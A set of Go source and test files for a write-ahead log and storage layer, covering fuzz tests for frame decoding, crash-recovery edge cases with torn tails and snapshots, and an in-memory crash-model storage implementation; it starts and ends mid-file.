	installScript(t, s, "appA", ams.Manifest{})
	ctx, err := s.Launch("appA", intent.Intent{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.StartGateway(GatewayOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := ctx.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": "before"}); err != nil {
		t.Fatal(err)
	}

	// Exhaust the store's retry budget: health drops to read-only.
	fault.Enable(1, fault.Spec{Point: "wal.append.transient", Prob: 1, Op: fault.OpTransient})
	_, _ = ctx.Resolver().Insert("content://user_dictionary/words", provider.Values{"word": "x"})
	fault.Disable()
	if s.Health() != health.ReadOnly {
		t.Fatalf("health = %v, want read-only", s.Health())
	}

	resp, err := s.GatewayRequest("u0:appA", "POST", "/v1/user_dictionary/words",
		[]byte(`{"word":"degraded"}`))
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status != 503 {
		t.Fatalf("degraded write: %d %s, want 503", resp.Status, resp.Body)
	}
	if resp.Header("Retry-After") == "" {
		t.Fatal("503 without Retry-After")
	}
	resp, err = s.GatewayRequest("u0:appA", "GET", "/v1/user_dictionary/words", nil)
	if err != nil || resp.Status != 200 {
		t.Fatalf("degraded read: %v %d %s — reads must keep serving", err, resp.Status, resp.Body)
	}
}
