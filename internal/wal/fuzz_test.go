package wal

import (
	"bytes"
	"testing"
)

// FuzzWALDecode feeds arbitrary bytes through the frame decoder and
// the prefix scanner. The contract under fuzz: never panic, never
// report a valid prefix longer than the input, and stop cleanly at the
// first bad frame (decoding the reported prefix again must succeed
// frame for frame).
func FuzzWALDecode(f *testing.F) {
	f.Add([]byte{})
	f.Add([]byte{0, 0, 0, 0})
	f.Add(bytes.Repeat([]byte{0xFF}, 64))
	one := appendFrame(nil, Record{LSN: 1, Stream: "fs", Payload: []byte("seed payload")})
	f.Add(one)
	two := appendFrame(append([]byte(nil), one...), Record{LSN: 2, Stream: "db:main", Payload: []byte{1, 2, 3}})
	f.Add(two)
	f.Add(two[:len(two)-5]) // torn tail
	flipped := append([]byte(nil), two...)
	flipped[9] ^= 0x40
	f.Add(flipped)

	f.Fuzz(func(t *testing.T, b []byte) {
		count := 0
		n, err := scanFrames(b, func(rec Record) error {
			if len(rec.Payload) > maxPayload {
				t.Fatalf("decoded payload of %d bytes exceeds maxPayload", len(rec.Payload))
			}
			count++
			return nil
		})
		if err != nil {
			t.Fatalf("scanFrames returned error without fn error: %v", err)
		}
		if n < 0 || n > len(b) {
			t.Fatalf("valid prefix %d out of range [0,%d]", n, len(b))
		}
		// Rescanning the valid prefix must decode the same frames.
		recount := 0
		n2, _ := scanFrames(b[:n], func(Record) error { recount++; return nil })
		if n2 != n || recount != count {
			t.Fatalf("rescan of valid prefix: got %d bytes %d frames, want %d bytes %d frames", n2, recount, n, count)
		}
	})
}
