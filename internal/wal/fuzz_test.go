package wal

import (
	"bytes"
	"testing"
)

// FuzzWALDecode feeds arbitrary bytes through the frame decoder and
// the prefix scanner. The contract under fuzz: never panic, never
// report a valid prefix longer than the input, and stop cleanly at the
// first bad frame (decoding the reported prefix again must succeed
// frame for frame).
func FuzzWALDecode(f *testing.F) {
	f.Add([]byte{})
	f.Add([]byte{0, 0, 0, 0})
	f.Add(bytes.Repeat([]byte{0xFF}, 64))
	one := appendFrame(nil, Record{LSN: 1, Stream: "fs", Payload: []byte("seed payload")})
	f.Add(one)
	two := appendFrame(append([]byte(nil), one...), Record{LSN: 2, Stream: "db:main", Payload: []byte{1, 2, 3}})
	f.Add(two)
	f.Add(two[:len(two)-5]) // torn tail
	flipped := append([]byte(nil), two...)
	flipped[9] ^= 0x40
	f.Add(flipped)

	f.Fuzz(func(t *testing.T, b []byte) {
		count := 0
		n, err := scanFrames(b, func(rec Record) error {
			if len(rec.Payload) > maxPayload {
				t.Fatalf("decoded payload of %d bytes exceeds maxPayload", len(rec.Payload))
			}
			count++
			return nil
		})
		if err != nil {
			t.Fatalf("scanFrames returned error without fn error: %v", err)
		}
		if n < 0 || n > len(b) {
			t.Fatalf("valid prefix %d out of range [0,%d]", n, len(b))
		}
		// Rescanning the valid prefix must decode the same frames.
		recount := 0
		n2, _ := scanFrames(b[:n], func(Record) error { recount++; return nil })
		if n2 != n || recount != count {
			t.Fatalf("rescan of valid prefix: got %d bytes %d frames, want %d bytes %d frames", n2, recount, n, count)
		}
	})
}

// FuzzSnapshotDecode feeds arbitrary bytes through the scrubber's
// snapshot verifier. Contract: never panic, accept a well-formed image
// exactly (returning its header cut), and reject any input whose valid
// frame prefix does not cover the whole file or whose first frame is
// not the snap header.
func FuzzSnapshotDecode(f *testing.F) {
	f.Add([]byte{})
	f.Add([]byte{0, 0, 0, 0, 0, 0, 0, 0})
	hdr := appendFrame(nil, Record{LSN: 7, Stream: snapStream, Payload: []byte{7, 0, 0, 0, 0, 0, 0, 0}})
	f.Add(hdr)
	img := appendFrame(append([]byte(nil), hdr...), Record{LSN: 7, Stream: "db:main", Payload: []byte("CREATE TABLE t (x)")})
	f.Add(img)
	f.Add(img[:len(img)-3]) // truncated
	bad := append([]byte(nil), img...)
	bad[len(hdr)+6] ^= 0x10 // corrupt the body frame
	f.Add(bad)
	noHdr := appendFrame(nil, Record{LSN: 1, Stream: "fs", Payload: []byte("not a header")})
	f.Add(noHdr)

	f.Fuzz(func(t *testing.T, b []byte) {
		cut, err := verifySnapshot(b)
		if err != nil {
			return
		}
		// Accepted: the image must re-verify identically, and any
		// truncation must be rejected.
		cut2, err2 := verifySnapshot(b)
		if err2 != nil || cut2 != cut {
			t.Fatalf("re-verify diverged: cut %d/%d err %v", cut, cut2, err2)
		}
		if len(b) > 0 {
			if _, err := verifySnapshot(b[:len(b)-1]); err == nil {
				t.Fatal("truncated image verified clean")
			}
		}
	})
}
