package wal_test

import (
	"reflect"
	"testing"

	"maxoid/internal/sqldb"
	"maxoid/internal/testutil"
	"maxoid/internal/vfs"
	"maxoid/internal/wal"
)

func mustExec(t *testing.T, db *sqldb.DB, sql string, args ...sqldb.Value) {
	t.Helper()
	if _, err := db.Exec(sql, args...); err != nil {
		t.Fatalf("exec %q: %v", sql, err)
	}
}

func kvRows(t *testing.T, db *sqldb.DB) [][]sqldb.Value {
	t.Helper()
	rows, err := db.Query("SELECT k, v FROM kv ORDER BY k")
	if err != nil {
		t.Fatalf("query kv: %v", err)
	}
	return rows.Data
}

func openMem(t *testing.T) (*testutil.DurableEnv, *wal.MemStorage) {
	t.Helper()
	st := wal.NewMemStorage()
	env, err := testutil.OpenDurable(st, "main")
	if err != nil {
		t.Fatalf("open: %v", err)
	}
	return env, st
}

func reopen(t *testing.T, env *testutil.DurableEnv) {
	t.Helper()
	if err := env.Reopen(); err != nil {
		t.Fatalf("reopen: %v", err)
	}
}

// seedKV creates the kv table with n synced rows ("v1".."vn").
func seedKV(t *testing.T, env *testutil.DurableEnv, n int) {
	t.Helper()
	mustExec(t, env.DB, "CREATE TABLE kv (k INTEGER PRIMARY KEY, v TEXT)")
	for i := 1; i <= n; i++ {
		mustExec(t, env.DB, "INSERT INTO kv (v) VALUES (?)", "v"+string(rune('0'+i)))
	}
}

func wantKV(n int) [][]sqldb.Value {
	out := make([][]sqldb.Value, n)
	for i := 1; i <= n; i++ {
		out[i-1] = []sqldb.Value{int64(i), "v" + string(rune('0'+i))}
	}
	return out
}

// appendRaw appends raw bytes (no framing) to a storage file, past its
// current end — the hand-crafted torn tail.
func appendRaw(t *testing.T, st *wal.MemStorage, name string, b []byte) {
	t.Helper()
	data, err := st.ReadFile(name)
	if err != nil {
		t.Fatalf("read %s: %v", name, err)
	}
	f, err := st.Append(name, int64(len(data)))
	if err != nil {
		t.Fatalf("append %s: %v", name, err)
	}
	f.Write(b)
	f.Sync()
	f.Close()
}

// rewrite replaces a storage file's full contents (durably).
func rewrite(t *testing.T, st *wal.MemStorage, name string, b []byte) {
	t.Helper()
	f, err := st.Create(name)
	if err != nil {
		t.Fatalf("create %s: %v", name, err)
	}
	f.Write(b)
	f.Sync()
	f.Close()
}

func readFile(t *testing.T, st *wal.MemStorage, name string) []byte {
	t.Helper()
	data, err := st.ReadFile(name)
	if err != nil {
		t.Fatalf("read %s: %v", name, err)
	}
	return data
}

// TestRecoverEdgeCases drives the recovery edge cases through one
// shared fixture: each case prepares a crashed storage via ops on a
// live env (plus optional byte-level surgery), then the runner crashes,
// reopens, and checks the recovered rows and LSN bookkeeping.
func TestRecoverEdgeCases(t *testing.T) {
	cases := []struct {
		name string
		// prepare mutates live state and/or storage; returns expected
		// kv rows after recovery (nil = table must not exist) and the
		// minimum LSN recovery must report.
		prepare func(t *testing.T, env *testutil.DurableEnv, st *wal.MemStorage) (want [][]sqldb.Value, minLSN uint64)
		// keep decides surviving unsynced bytes per file at crash.
		keep func(name string, unsynced int) int
	}{
		{
			name: "empty wal",
			prepare: func(t *testing.T, env *testutil.DurableEnv, st *wal.MemStorage) ([][]sqldb.Value, uint64) {
				// A wal file that exists but holds zero frames.
				rewrite(t, st, "wal", nil)
				return nil, 0
			},
		},
		{
			name: "synced ops replay",
			prepare: func(t *testing.T, env *testutil.DurableEnv, st *wal.MemStorage) ([][]sqldb.Value, uint64) {
				seedKV(t, env, 2)
				return wantKV(2), 3 // CREATE + 2 INSERTs
			},
		},
		{
			name: "torn last record",
			prepare: func(t *testing.T, env *testutil.DurableEnv, st *wal.MemStorage) ([][]sqldb.Value, uint64) {
				seedKV(t, env, 2)
				// A frame header promising 32 bytes of payload that never
				// arrived: recovery truncates it and keeps the prefix.
				appendRaw(t, st, "wal", []byte{32, 0, 0, 0, 0xDE, 0xAD, 0xBE, 0xEF, 1, 2, 3})
				return wantKV(2), 3
			},
		},
		{
			name: "snapshot only",
			prepare: func(t *testing.T, env *testutil.DurableEnv, st *wal.MemStorage) ([][]sqldb.Value, uint64) {
				seedKV(t, env, 3)
				if err := env.Store.Snapshot(); err != nil {
					t.Fatalf("snapshot: %v", err)
				}
				if data := readFile(t, st, "wal"); len(data) != 0 {
					t.Fatalf("wal not reset after quiescent snapshot: %d bytes", len(data))
				}
				return wantKV(3), 4
			},
		},
		{
			name: "duplicate replay is idempotent",
			prepare: func(t *testing.T, env *testutil.DurableEnv, st *wal.MemStorage) ([][]sqldb.Value, uint64) {
				seedKV(t, env, 2)
				pre := readFile(t, st, "wal") // frames 1..3
				if err := env.Store.Snapshot(); err != nil {
					t.Fatalf("snapshot: %v", err)
				}
				mustExec(t, env.DB, "INSERT INTO kv (v) VALUES (?)", "v3")
				post := readFile(t, st, "wal") // frame 4 only
				// Splice the pre-snapshot frames back in front: recovery
				// must skip every record at or below the snapshot's cut
				// LSN instead of double-applying it.
				rewrite(t, st, "wal", append(append([]byte(nil), pre...), post...))
				return wantKV(3), 4
			},
		},
		{
			name: "snapshot newer than wal tail",
			prepare: func(t *testing.T, env *testutil.DurableEnv, st *wal.MemStorage) ([][]sqldb.Value, uint64) {
				seedKV(t, env, 2)
				stale := readFile(t, st, "wal") // frames 1..3
				mustExec(t, env.DB, "INSERT INTO kv (v) VALUES (?)", "v3")
				if err := env.Store.Snapshot(); err != nil {
					t.Fatalf("snapshot: %v", err)
				}
				// Resurrect the stale pre-snapshot wal: every record sits
				// at or below the cut, so recovery applies none of them —
				// and must still resume LSNs from the cut, not the tail.
				rewrite(t, st, "wal", stale)
				return wantKV(3), 4
			},
		},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			env, st := openMem(t)
			want, minLSN := tc.prepare(t, env, st)
			st.Crash(tc.keep)
			reopen(t, env)

			if want == nil {
				if _, err := env.DB.Query("SELECT k FROM kv"); err == nil {
					t.Fatal("kv table exists after recovery, want absent")
				}
			} else if got := kvRows(t, env.DB); !reflect.DeepEqual(got, want) {
				t.Fatalf("recovered rows = %v, want %v", got, want)
			}
			if got := env.Store.RecoveredLSN(); got < minLSN {
				t.Fatalf("RecoveredLSN = %d, want >= %d", got, minLSN)
			}
			// The recovered store must be live: a new durable write works
			// and survives a second crash, and its LSN is never a reuse.
			before := env.Store.LastLSN()
			if want != nil {
				mustExec(t, env.DB, "INSERT INTO kv (v) VALUES (?)", "vZ")
				if env.Store.LastLSN() <= before {
					t.Fatalf("LSN did not advance past %d", before)
				}
				grown := append(want, []sqldb.Value{int64(len(want) + 1), "vZ"})
				st.Crash(nil)
				reopen(t, env)
				if got := kvRows(t, env.DB); !reflect.DeepEqual(got, grown) {
					t.Fatalf("rows after second crash = %v, want %v", got, grown)
				}
			}
		})
	}
}

// TestRecoverAbortsOpenTxn: a transaction whose records reached the
// disk but whose COMMIT never ran is rolled back by recovery.
func TestRecoverAbortsOpenTxn(t *testing.T) {
	env, st := openMem(t)
	seedKV(t, env, 1)
	mustExec(t, env.DB, "BEGIN")
	mustExec(t, env.DB, "INSERT INTO kv (v) VALUES (?)", "uncommitted")
	// Crash keeping every written byte: the BEGIN and INSERT frames
	// survive even though nothing synced them.
	st.Crash(func(name string, unsynced int) int { return unsynced })
	reopen(t, env)
	if got := kvRows(t, env.DB); !reflect.DeepEqual(got, wantKV(1)) {
		t.Fatalf("rows = %v, want only the committed %v", got, wantKV(1))
	}
	if env.DB.InTxn() {
		t.Fatal("transaction still open after recovery")
	}
}

// TestRecoverFS: filesystem mutations of every journaled kind survive
// a crash, including metadata (mode, owner).
func TestRecoverFS(t *testing.T) {
	env, st := openMem(t)
	fsys := env.FS
	if err := fsys.MkdirAll(vfs.Root, "/data/app", 0o750); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(fsys, vfs.Root, "/data/app/a.txt", []byte("alpha"), 0o640); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(fsys, vfs.Root, "/data/app/b.txt", []byte("beta"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := fsys.Rename(vfs.Root, "/data/app/b.txt", "/data/app/c.txt"); err != nil {
		t.Fatal(err)
	}
	if err := fsys.Chown(vfs.Root, "/data/app/a.txt", 1007); err != nil {
		t.Fatal(err)
	}
	if err := fsys.Chmod(vfs.Root, "/data/app/a.txt", 0o600); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(fsys, vfs.Root, "/data/doomed", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := fsys.Remove(vfs.Root, "/data/doomed"); err != nil {
		t.Fatal(err)
	}
	want, err := vfs.Tree(fsys, vfs.Root, "/")
	if err != nil {
		t.Fatal(err)
	}

	st.Crash(nil)
	reopen(t, env)

	got, err := vfs.Tree(env.FS, vfs.Root, "/")
	if err != nil {
		t.Fatalf("tree after recovery: %v", err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("recovered tree = %v, want %v", got, want)
	}
	fi, err := env.FS.Stat(vfs.Root, "/data/app/a.txt")
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode.Perm() != 0o600 || fi.UID != 1007 {
		t.Fatalf("a.txt mode=%v uid=%d, want 0600/1007", fi.Mode.Perm(), fi.UID)
	}
}

// TestRecoverCounters: deleting the highest row leaves an allocator
// high-water mark rows cannot witness; only a snapshot's counter
// record carries it across.
func TestRecoverCounters(t *testing.T) {
	env, st := openMem(t)
	seedKV(t, env, 3)
	mustExec(t, env.DB, "DELETE FROM kv WHERE k = 3")
	if err := env.Store.Snapshot(); err != nil {
		t.Fatalf("snapshot: %v", err)
	}
	st.Crash(nil)
	reopen(t, env)
	res, err := env.DB.Exec("INSERT INTO kv (v) VALUES (?)", "after")
	if err != nil {
		t.Fatal(err)
	}
	// Without the counter record the allocator would hand out 3 again;
	// the live engine would have handed out 4.
	if res.LastInsertID != 4 {
		t.Fatalf("recovered allocator produced id %d, want 4", res.LastInsertID)
	}
}

// TestDirStorage: the same recovery path over a real directory.
func TestDirStorageReopen(t *testing.T) {
	dir := t.TempDir()
	st, err := wal.NewDirStorage(dir)
	if err != nil {
		t.Fatal(err)
	}
	env, err := testutil.OpenDurable(st, "main")
	if err != nil {
		t.Fatal(err)
	}
	seedKV(t, env, 2)
	if err := vfs.WriteFile(env.FS, vfs.Root, "/hello", []byte("world"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := env.Close(); err != nil {
		t.Fatal(err)
	}

	st2, err := wal.NewDirStorage(dir)
	if err != nil {
		t.Fatal(err)
	}
	env2, err := testutil.OpenDurable(st2, "main")
	if err != nil {
		t.Fatal(err)
	}
	defer env2.Close()
	if got := kvRows(t, env2.DB); !reflect.DeepEqual(got, wantKV(2)) {
		t.Fatalf("rows = %v, want %v", got, wantKV(2))
	}
	data, err := vfs.ReadFile(env2.FS, vfs.Root, "/hello")
	if err != nil || string(data) != "world" {
		t.Fatalf("/hello = %q, %v; want \"world\"", data, err)
	}
}

// TestSnapshotSchemaAndViews: snapshots carry the full catalog —
// secondary indexes, views, triggers — not just rows.
func TestSnapshotSchemaAndViews(t *testing.T) {
	env, st := openMem(t)
	mustExec(t, env.DB, "CREATE TABLE kv (k INTEGER PRIMARY KEY, v TEXT, n INTEGER DEFAULT 0)")
	mustExec(t, env.DB, "CREATE INDEX kv_v ON kv (v)")
	mustExec(t, env.DB, "INSERT INTO kv (v, n) VALUES ('a', 1)")
	mustExec(t, env.DB, "CREATE VIEW big AS SELECT k, v FROM kv WHERE n > 0")
	if err := env.Store.Snapshot(); err != nil {
		t.Fatalf("snapshot: %v", err)
	}
	st.Crash(nil)
	reopen(t, env)

	rows, err := env.DB.Query("SELECT k, v FROM big")
	if err != nil {
		t.Fatalf("view query after recovery: %v", err)
	}
	if len(rows.Data) != 1 || rows.Data[0][1] != "a" {
		t.Fatalf("view rows = %v, want [[1 a]]", rows.Data)
	}
	// The index must exist again: creating it anew must fail.
	if _, err := env.DB.Exec("CREATE INDEX kv_v ON kv (v)"); err == nil {
		t.Fatal("index kv_v was not recovered (re-create succeeded)")
	}
}
