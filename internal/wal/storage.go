package wal

import (
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"sync"
)

// Storage is the byte store beneath the WAL: a flat namespace of
// append-only files with explicit sync. Two implementations ship:
// DirStorage over a real directory (production durability) and
// MemStorage with an explicit crash model (tests and the recover
// chaos engine).
type Storage interface {
	// ReadFile returns the full durable content of a file, or an error
	// satisfying fs.ErrNotExist.
	ReadFile(name string) ([]byte, error)
	// Create truncates-or-creates a file and opens it for appending.
	Create(name string) (File, error)
	// Append opens a file for appending after truncating it to
	// validLen bytes (torn-tail removal). The file is created empty if
	// missing.
	Append(name string, validLen int64) (File, error)
	// Rename atomically replaces newname with oldname.
	Rename(oldname, newname string) error
	// Remove deletes a file; removing a missing file is not an error.
	Remove(name string) error
}

// File is an open WAL or snapshot file.
type File interface {
	Write(p []byte) (int, error)
	// Sync makes everything written so far durable.
	Sync() error
	Close() error
}

// --- Directory-backed storage ---

// DirStorage stores files in a real directory with fsync durability.
type DirStorage struct {
	dir string
}

// NewDirStorage returns storage rooted at dir, creating it if needed.
func NewDirStorage(dir string) (*DirStorage, error) {
	if err := os.MkdirAll(dir, 0o777); err != nil {
		return nil, err
	}
	return &DirStorage{dir: dir}, nil
}

func (s *DirStorage) path(name string) string { return filepath.Join(s.dir, name) }

func (s *DirStorage) ReadFile(name string) ([]byte, error) {
	return os.ReadFile(s.path(name))
}

func (s *DirStorage) Create(name string) (File, error) {
	return os.OpenFile(s.path(name), os.O_RDWR|os.O_CREATE|os.O_TRUNC, 0o666)
}

func (s *DirStorage) Append(name string, validLen int64) (File, error) {
	f, err := os.OpenFile(s.path(name), os.O_RDWR|os.O_CREATE, 0o666)
	if err != nil {
		return nil, err
	}
	if err := f.Truncate(validLen); err != nil {
		f.Close()
		return nil, err
	}
	if _, err := f.Seek(validLen, 0); err != nil {
		f.Close()
		return nil, err
	}
	return f, nil
}

func (s *DirStorage) Rename(oldname, newname string) error {
	if err := os.Rename(s.path(oldname), s.path(newname)); err != nil {
		return err
	}
	// Make the rename itself durable: fsync the directory.
	if d, err := os.Open(s.dir); err == nil {
		d.Sync()
		d.Close()
	}
	return nil
}

func (s *DirStorage) Remove(name string) error {
	err := os.Remove(s.path(name))
	if err != nil && os.IsNotExist(err) {
		return nil
	}
	return err
}

// --- In-memory storage with a crash model ---

// MemStorage is an in-memory Storage with an explicit crash model:
// every file tracks its durable image (what Sync has pinned) apart
// from its written image (what the "page cache" holds). Crash throws
// away an arbitrary, caller-chosen suffix of the unsynced bytes —
// exactly the freedom a real kernel has — while metadata operations
// (Create/Remove/Rename) are modeled as immediately durable and
// atomic, matching DirStorage's directory-fsync discipline.
type MemStorage struct {
	mu    sync.Mutex
	files map[string]*memFile
}

type memFile struct {
	durable []byte
	written []byte
}

// NewMemStorage returns an empty in-memory storage.
func NewMemStorage() *MemStorage {
	return &MemStorage{files: make(map[string]*memFile)}
}

func (s *MemStorage) ReadFile(name string) ([]byte, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	f, ok := s.files[name]
	if !ok {
		return nil, &fs.PathError{Op: "open", Path: name, Err: fs.ErrNotExist}
	}
	out := make([]byte, len(f.written))
	copy(out, f.written)
	return out, nil
}

func (s *MemStorage) Create(name string) (File, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	f := &memFile{}
	s.files[name] = f
	return &memHandle{s: s, f: f}, nil
}

func (s *MemStorage) Append(name string, validLen int64) (File, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	f, ok := s.files[name]
	if !ok {
		f = &memFile{}
		s.files[name] = f
	}
	if int(validLen) < len(f.written) {
		f.written = f.written[:validLen]
	}
	if int(validLen) < len(f.durable) {
		f.durable = f.durable[:validLen]
	}
	return &memHandle{s: s, f: f}, nil
}

func (s *MemStorage) Rename(oldname, newname string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	f, ok := s.files[oldname]
	if !ok {
		return &fs.PathError{Op: "rename", Path: oldname, Err: fs.ErrNotExist}
	}
	delete(s.files, oldname)
	s.files[newname] = f
	// The rename is durable: pin the written image.
	f.durable = append([]byte(nil), f.written...)
	return nil
}

func (s *MemStorage) Remove(name string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	delete(s.files, name)
	return nil
}

// Crash simulates a machine crash: for every file, the durable image
// survives and keep decides how many of the unsynced trailing bytes
// survive with it (0 ≤ kept ≤ unsynced, chosen per file — a seeded
// caller explores torn tails deterministically). A nil keep drops all
// unsynced bytes. Open handles become useless; reopen with Append.
func (s *MemStorage) Crash(keep func(name string, unsynced int) int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	names := make([]string, 0, len(s.files))
	for name := range s.files {
		names = append(names, name)
	}
	sort.Strings(names) // deterministic keep() order
	for _, name := range names {
		f := s.files[name]
		unsynced := len(f.written) - len(f.durable)
		k := 0
		if keep != nil && unsynced > 0 {
			k = keep(name, unsynced)
			if k < 0 {
				k = 0
			}
			if k > unsynced {
				k = unsynced
			}
		}
		f.written = f.written[:len(f.durable)+k]
		f.durable = f.written
	}
}

type memHandle struct {
	s      *MemStorage
	f      *memFile
	closed bool
}

func (h *memHandle) Write(p []byte) (int, error) {
	h.s.mu.Lock()
	defer h.s.mu.Unlock()
	h.f.written = append(h.f.written, p...)
	return len(p), nil
}

func (h *memHandle) Sync() error {
	h.s.mu.Lock()
	defer h.s.mu.Unlock()
	h.f.durable = h.f.written[:len(h.f.written):len(h.f.written)]
	return nil
}

func (h *memHandle) Close() error {
	h.closed = true
	return nil
}
