package wal

import (
	"bytes"
	"errors"
	"io/fs"
	"testing"
)

// TestMemStorageCrashModel drives the MemStorage crash model through
// its edge cases table-style: each case builds file state through the
// public API, crashes with a per-file keep decision, and checks the
// surviving bytes. The model under test is the contract the recover
// and degrade chaos engines rely on: Sync pins a durable prefix,
// Crash keeps that prefix plus a caller-chosen run of unsynced bytes,
// and metadata operations (Create/Remove/Rename) are immediately
// durable and atomic.
func TestMemStorageCrashModel(t *testing.T) {
	cases := []struct {
		name  string
		build func(t *testing.T, s *MemStorage)
		keep  func(name string, unsynced int) int
		want  map[string][]byte // file -> surviving bytes; absent = must not exist
	}{
		{
			name: "sync pins prefix, crash drops tail",
			build: func(t *testing.T, s *MemStorage) {
				f, _ := s.Create("wal")
				f.Write([]byte("durable"))
				f.Sync()
				f.Write([]byte("-lost"))
				f.Close()
			},
			want: map[string][]byte{"wal": []byte("durable")},
		},
		{
			name: "crash keeps a partial unsynced run",
			build: func(t *testing.T, s *MemStorage) {
				f, _ := s.Create("wal")
				f.Write([]byte("base"))
				f.Sync()
				f.Write([]byte("abcdef"))
				f.Close()
			},
			keep: func(string, int) int { return 3 },
			want: map[string][]byte{"wal": []byte("baseabc")},
		},
		{
			name: "sync after partial write pins exactly what reached the file",
			build: func(t *testing.T, s *MemStorage) {
				// Model a torn frame append: only a prefix of the frame was
				// written before the fault, then a later Sync runs anyway
				// (the group-commit leader serving another record). The
				// durable image must contain the torn prefix, not the full
				// frame — syncing cannot invent bytes.
				f, _ := s.Create("wal")
				full := []byte("record-one|record-two")
				f.Write(full[:10]) // torn: the rest never reached the file
				f.Sync()
				f.Close()
			},
			want: map[string][]byte{"wal": []byte("record-one")},
		},
		{
			name: "rename pins unsynced bytes durably",
			build: func(t *testing.T, s *MemStorage) {
				// The snapshot publish discipline: write + sync + rename.
				// But even an unsynced written image is pinned by Rename,
				// matching DirStorage's directory-fsync after rename.
				f, _ := s.Create("snapshot.tmp")
				f.Write([]byte("snap-image"))
				f.Close()
				if err := s.Rename("snapshot.tmp", "snapshot"); err != nil {
					t.Fatalf("rename: %v", err)
				}
			},
			want: map[string][]byte{"snapshot": []byte("snap-image")},
		},
		{
			name: "rename replaces the target atomically",
			build: func(t *testing.T, s *MemStorage) {
				f, _ := s.Create("snapshot")
				f.Write([]byte("old"))
				f.Sync()
				f.Close()
				g, _ := s.Create("snapshot.tmp")
				g.Write([]byte("new"))
				g.Sync()
				g.Close()
				if err := s.Rename("snapshot.tmp", "snapshot"); err != nil {
					t.Fatalf("rename: %v", err)
				}
			},
			want: map[string][]byte{"snapshot": []byte("new")},
		},
		{
			name: "remove is durable, removing missing is not an error",
			build: func(t *testing.T, s *MemStorage) {
				f, _ := s.Create("tmp")
				f.Write([]byte("x"))
				f.Sync()
				f.Close()
				if err := s.Remove("tmp"); err != nil {
					t.Fatalf("remove: %v", err)
				}
				if err := s.Remove("tmp"); err != nil {
					t.Fatalf("second remove: %v", err)
				}
			},
			want: map[string][]byte{},
		},
		{
			name: "append truncation drops durable bytes past validLen",
			build: func(t *testing.T, s *MemStorage) {
				// Torn-tail truncation at recovery: Append(name, validLen)
				// must shorten the durable image too, so a later crash
				// cannot resurrect the truncated tail.
				f, _ := s.Create("wal")
				f.Write([]byte("good|torn"))
				f.Sync()
				f.Close()
				g, err := s.Append("wal", 4)
				if err != nil {
					t.Fatalf("append: %v", err)
				}
				g.Write([]byte("+new")) // unsynced: must die in the crash
				g.Close()
			},
			want: map[string][]byte{"wal": []byte("good")},
		},
		{
			name: "double close is harmless",
			build: func(t *testing.T, s *MemStorage) {
				f, _ := s.Create("wal")
				f.Write([]byte("ab"))
				f.Sync()
				if err := f.Close(); err != nil {
					t.Fatalf("close: %v", err)
				}
				if err := f.Close(); err != nil {
					t.Fatalf("double close: %v", err)
				}
				// A closed handle's synced bytes stay durable.
			},
			want: map[string][]byte{"wal": []byte("ab")},
		},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := NewMemStorage()
			tc.build(t, s)
			s.Crash(tc.keep)
			for name, want := range tc.want {
				got, err := s.ReadFile(name)
				if err != nil {
					t.Fatalf("read %s after crash: %v", name, err)
				}
				if !bytes.Equal(got, want) {
					t.Fatalf("%s after crash = %q, want %q", name, got, want)
				}
			}
			// Nothing else survived.
			for _, name := range []string{"wal", "snapshot", "snapshot.tmp", "tmp"} {
				if _, expected := tc.want[name]; expected {
					continue
				}
				if _, err := s.ReadFile(name); !errors.Is(err, fs.ErrNotExist) {
					t.Fatalf("%s should not exist after crash (err=%v)", name, err)
				}
			}
		})
	}
}

// TestMemStorageCrashIsIdempotent checks a second crash (no
// intervening writes) changes nothing: crash pins written == durable.
func TestMemStorageCrashIsIdempotent(t *testing.T) {
	s := NewMemStorage()
	f, _ := s.Create("wal")
	f.Write([]byte("abc"))
	f.Sync()
	f.Write([]byte("def"))
	s.Crash(func(string, int) int { return 1 })
	first, _ := s.ReadFile("wal")
	s.Crash(nil)
	second, _ := s.ReadFile("wal")
	if !bytes.Equal(first, []byte("abcd")) || !bytes.Equal(first, second) {
		t.Fatalf("crash not idempotent: %q then %q", first, second)
	}
}
