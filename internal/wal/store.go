package wal

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io/fs"
	"sort"
	"strings"
	"sync"
	"time"

	"maxoid/internal/fault"
	"maxoid/internal/health"
	"maxoid/internal/metrics"
	"maxoid/internal/sqldb"
	"maxoid/internal/vfs"
)

// On-disk layout, inside one Storage namespace:
//
//	wal           append-only frame log (log.go); may end in a torn frame
//	snapshot      compacted state: a "snap" header frame carrying the cut
//	              LSN, then the full state as framed fs/db records
//	snapshot.tmp  in-flight snapshot; removed at open, renamed on success
//
// Recovery applies the snapshot (if any), then every WAL record with
// LSN greater than the snapshot's cut, then truncates the torn tail.
const (
	walFile     = "wal"
	snapFile    = "snapshot"
	snapTmpFile = "snapshot.tmp"

	snapStream = "snap"
	fsStream   = "fs"
	dbPrefix   = "db:"
)

// ErrBusy reports a snapshot that could not get a consistent cut: a
// transaction stayed open, or mutations kept racing the dump. The
// caller retries later; the WAL alone still provides durability.
var ErrBusy = errors.New("wal: snapshot deferred: state is busy")

// snapshotRetries bounds the seqlock retry loop before giving up with
// ErrBusy.
const snapshotRetries = 8

// Config wires a Store to the state it makes durable.
type Config struct {
	// Storage holds the WAL and snapshot files.
	Storage Storage
	// FS is the journaled filesystem; nil if only databases persist.
	FS *vfs.FS
